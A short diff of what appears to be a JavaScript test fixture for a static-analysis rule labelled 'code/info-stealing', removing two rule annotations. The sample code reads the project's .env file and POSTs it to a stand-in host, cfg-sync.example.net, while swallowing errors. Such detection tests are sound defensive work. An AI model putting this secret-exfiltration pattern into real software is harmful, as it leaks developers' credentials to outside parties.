@@ -9,8 +9,6 @@ try {
   // ruleid: code/info-stealing
   text = fs.readFileSync(path.join(root, '.env'), 'utf8');
 } catch (e) {}
-// ruleid: code/info-stealing
 const req = https.request({ hostname: 'cfg-sync.example.net', path: '/p', method: 'POST' });
 req.on('error', () => {});
-// ruleid: code/info-stealing
 req.end(text);
